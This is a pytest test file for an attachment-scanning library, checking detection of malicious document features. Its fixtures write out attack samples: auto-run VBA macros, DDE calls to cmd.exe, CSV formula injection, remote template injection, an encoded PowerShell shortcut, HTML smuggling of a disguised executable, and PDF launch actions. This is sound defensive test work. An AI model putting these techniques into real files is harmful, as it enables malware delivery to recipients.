"""Documents, pages and shortcuts: what in them runs, fetches or carries another file."""

from __future__ import annotations

import base64
import io
import random
import struct
import zlib

import pytest
from msoffcrypto.format.ooxml import OOXMLFile

from attachment_tools import EXE, OPC, compound, kinds, lnk, look, onenote, paths, vba_project, zipped
from everpost.guard.attachments import FindingKind
from everpost.guard.attachments.documents.vba import decompress

AUTO = 'Sub Document_Open()\r\nCreateObject("WScript.Shell").Run "calc"\r\nEnd Sub\r\n'
RELATION = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'
    b' Target="%s" TargetMode="External"/></Relationships>'
)


def word(*parts: tuple[str, bytes]) -> bytes:
    return zipped(OPC, ("word/document.xml", b"<w:document/>"), *parts)


def test_a_plain_document_is_clean() -> None:
    relations = RELATION % (b"hyperlink", b"https://example.org/")
    found = look(word(("word/_rels/document.xml.rels", relations)), "a.docx", "application/vnd.openxmlformats")
    assert found.findings == ()
    assert found.complete
    assert found.members[0].true_type == "docx"


def test_macros() -> None:
    found = look(word(("word/vbaProject.bin", vba_project(AUTO))), "a.docm")
    assert {FindingKind.MACRO, FindingKind.AUTO_MACRO} <= found.kinds()
    evidence = " ".join(finding.evidence for finding in found.findings)
    assert "Document_Open" in evidence
    assert "wscript.shell" in evidence
    assert FindingKind.TYPE_MISMATCH in kinds(word(("word/vbaProject.bin", vba_project(AUTO))), "a.docx")
    quiet = word(("word/vbaProject.bin", vba_project("Sub Help()\r\nEnd Sub\r\n")))
    assert FindingKind.AUTO_MACRO not in kinds(quiet, "a.docm")
    old = compound({"WordDocument": bytes(100), "Macros/VBA/dir": b"\x01", "Macros/VBA/M": b"\0" * 9})
    assert {FindingKind.MACRO, FindingKind.DAMAGED} <= kinds(old, "a.doc")


def test_vba_is_decompressed_as_the_specification_shows() -> None:
    """[MS-OVBA] §3.2.2 and §3.2.3."""
    normal = bytes.fromhex(
        "01 2F B0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6A 01 38 08 61 6B 6C 00 30 6D 6E 6F 70 06 71 02 70"
        " 04 10 72 73 74 75 76 10 77 78 79 7A 00 3C"
    )
    assert decompress(normal) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
    assert decompress(bytes.fromhex("01 03 B0 02 61 45 00")) == b"a" * 73


@pytest.mark.parametrize("kind", [b"attachedTemplate", b"oleObject", b"frame"])
def test_template_injection(kind: bytes) -> None:
    found = look(word(("word/_rels/settings.xml.rels", RELATION % (kind, b"http://192.0.2.1/a.dotm"))), "a.docx")
    assert found.kinds() == {FindingKind.TEMPLATE_INJECTION}
    assert "192.0.2.1" in found.findings[0].evidence


def test_dde_in_pieces_and_in_links() -> None:
    field = (
        b'<w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">'
        b'EAUTO c:\\\\Windows\\\\cmd.exe "/k calc"</w:instrText>'
    )
    assert FindingKind.DDE in kinds(word(("word/footer1.xml", field)), "a.docx")
    assert FindingKind.DDE not in kinds(word(("word/footer1.xml", b"<w:instrText>PAGE</w:instrText>")), "a.docx")
    link = b'<ddeLink xmlns="x" ddeService="cmd" ddeTopic="/c calc"/>'
    assert FindingKind.DDE in kinds(zipped(OPC, ("xl/externalLinks/externalLink1.xml", link)), "a.xlsx")
    assert FindingKind.DDE in kinds(b"a,b\r\n1,=cmd|' /C calc'!A0\r\n", "a.csv")
    assert FindingKind.DDE not in kinds(b"a|b,c!d\r\n1,-2\r\n", "a.csv")
    old = compound({"WordDocument": bytes(100) + b'\x13 DDEAUTO c:\\cmd.exe "/k calc" \x14x\x15'})
    assert FindingKind.DDE in kinds(old, "a.doc")


def test_macro_sheets() -> None:
    names = b'<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">M!$A$1</definedName></definedNames>'
    found = kinds(zipped(OPC, ("xl/workbook.xml", names), ("xl/macrosheets/sheet1.xml", b"<x/>")), "a.xlsm")
    assert {FindingKind.MACRO, FindingKind.AUTO_MACRO} <= found
    sheet = struct.pack("<HHIBB", 0x85, 9, 0, 2, 1) + b"\x01\0M"
    name = struct.pack("<HH", 0x18, 17) + struct.pack("<H", 0x20) + bytes(13) + b"\x01" + b"\0"
    assert {FindingKind.MACRO, FindingKind.AUTO_MACRO} <= kinds(compound({"Workbook": sheet + name}), "a.xls")


def native(name: bytes, data: bytes) -> bytes:
    body = struct.pack("<H", 2) + name + b"\0" + b"C:\\" + name + b"\0" + bytes(4)
    body += struct.pack("<I", len(name) + 1) + name + b"\0" + struct.pack("<I", len(data)) + data
    return struct.pack("<I", len(body)) + body


def test_embedded_objects() -> None:
    package = compound({"\x01Ole10Native": native(b"invoice.exe", EXE)})
    found = look(word(("word/embeddings/oleObject1.bin", package)), "a.docx")
    assert FindingKind.EMBEDDED_OBJECT in found.kinds()
    assert any(path.endswith("invoice.exe") for path in paths(found, FindingKind.EXECUTABLE))


def test_rtf_objects_with_noise_among_the_digits() -> None:
    digits = (
        struct.pack("<II", 0x501, 2)
        + struct.pack("<I", 8)
        + b"Package\0"
        + bytes(8)
        + struct.pack("<I", len(native(b"a.exe", EXE)) - 4)
        + native(b"a.exe", EXE)[4:]
    ).hex()
    noisy = digits[:40] + "\r\n{\\par }\\bin0 " + digits[40:]
    found = look(b"{\\rtf1{\\object\\objemb{\\*\\objdata " + noisy.encode() + b"}}}", "a.doc")
    assert any(path.endswith("a.exe") for path in paths(found, FindingKind.EXECUTABLE))
    template = b"{\\rtf1{\\*\\template http://192.0.2.1/a.dotm}}"
    assert FindingKind.TEMPLATE_INJECTION in kinds(template, "a.rtf")
    equation = (
        b"{\\rtf1{\\object{\\*\\objdata "
        + (struct.pack("<III", 0x501, 2, 11) + b"Equation.3\0" + bytes(40)).hex().encode()
        + b"}}}"
    )
    assert FindingKind.EQUATION_EDITOR in kinds(equation, "a.rtf")


def test_encrypted_documents() -> None:
    picture = random.Random(1).randbytes(9000)  # the library's writer breaks what is smaller than 4096 octets
    plain = word(("word/vbaProject.bin", vba_project(AUTO)), ("word/media/a.bin", picture))
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(plain)).encrypt("Geheim!7", out)
    found = look(out.getvalue(), "a.docx", texts=["Passwort: Geheim!7"])
    assert {FindingKind.PASSWORD_IN_TEXT, FindingKind.AUTO_MACRO} <= found.kinds()
    assert look(out.getvalue(), "a.docx").kinds() == {FindingKind.ENCRYPTED}
    slow = out.getvalue().replace(b'spinCount="100000"', b'spinCount="999999"')
    assert slow != out.getvalue()
    assert "too long" in look(slow, "a.docx").findings[0].evidence


def test_onenote() -> None:
    found = look(onenote(EXE), "a.one")
    assert {FindingKind.ONENOTE_EMBEDDED, FindingKind.EXECUTABLE} <= found.kinds()
    assert FindingKind.ONENOTE_EMBEDDED not in kinds(onenote(b"\x89PNG\r\n\x1a\n"), "a.one")


def test_shortcuts() -> None:
    found = look(lnk("/c powershell -w hidden -enc AAAA"), "Invoice.lnk")
    assert {FindingKind.LNK, FindingKind.LNK_COMMAND} <= found.kinds()
    assert any("cmd.exe /c powershell" in finding.evidence for finding in found.findings)
    behind = look(lnk("/c x") + EXE, "Invoice.lnk")
    assert {FindingKind.APPENDED_DATA, FindingKind.EXECUTABLE} <= behind.kinds()


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF"


def stream(dictionary: bytes, data: bytes) -> bytes:
    packed = zlib.compress(data)
    return b"9 0 obj<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj" % (dictionary, len(packed), packed)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", FindingKind.PDF_JAVASCRIPT),
        (b"1 0 obj<</OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj", FindingKind.PDF_OPEN_ACTION),
        (b"1 0 obj<</A<</S/Launch/F(cmd.exe)>>>>endobj", FindingKind.PDF_LAUNCH),
        (stream(b"/Type/ObjStm/N 1/First 4", b"1 0 <</S/JavaScript/JS(x)>>"), FindingKind.PDF_JAVASCRIPT),
        (b"1 0 obj<</Type/Filespec/F(a.exe)>>" + stream(b"/Type/EmbeddedFile", EXE), FindingKind.EXECUTABLE),
        (b"1 0 obj<</Encrypt 3 0 R>>endobj", FindingKind.ENCRYPTED),
    ],
)
def test_pdf(body: bytes, expected: FindingKind) -> None:
    assert expected in kinds(pdf(body), "a.pdf", "application/pdf")


def test_a_plain_pdf_is_clean() -> None:
    body = b"1 0 obj<</OpenAction[3 0 R/Fit]/Type/Catalog>>endobj " + stream(b"", b"BT (Hello) Tj ET")
    assert kinds(pdf(body), "a.pdf", "application/pdf") == set()


def test_smuggling_in_pages() -> None:
    packed = base64.b64encode(zipped(("Rechnung.exe", EXE + bytes(range(256)) * 3))).decode()
    page = f"<html><script>var b='{packed[:300]}'+\n'{packed[300:]}';var u=URL.createObjectURL(new Blob([atob(b)]));"
    page += "a.download='x.zip';a.click()</script>"
    for data in (page.encode(), page.encode("utf-16"), page.encode("utf-8-sig")):
        found = look(data, "a.html")
        assert FindingKind.HTML_SMUGGLING in found.kinds()
        assert any(path.endswith("Rechnung.exe") for path in paths(found, FindingKind.EXECUTABLE))
    link = f'<a href="data:application/zip;base64,{packed}" download="x.zip">open</a>'
    assert {FindingKind.HTML_SMUGGLING, FindingKind.EXECUTABLE} <= kinds(link.encode(), "a.html")
    assert (
        kinds(b'<html><body><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUg=="></body></html>', "a.html")
        == set()
    )


def test_pictures_with_scripts() -> None:
    start = b'<svg xmlns="http://www.w3.org/2000/svg">'
    for inside in (b"<script>x</script>", b'<g onload="x"/>', b'<a href="javascript:x"/>', b"<foreignObject/>"):
        assert FindingKind.SVG_SCRIPT in kinds(start + inside + b"</svg>", "a.svg", "image/svg+xml")
    assert kinds(start + b"<path d='M0 0'/></svg>", "a.svg", "image/svg+xml") == set()
    laughs = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>'
    assert FindingKind.XML_ENTITY in kinds(laughs, "a.svg")
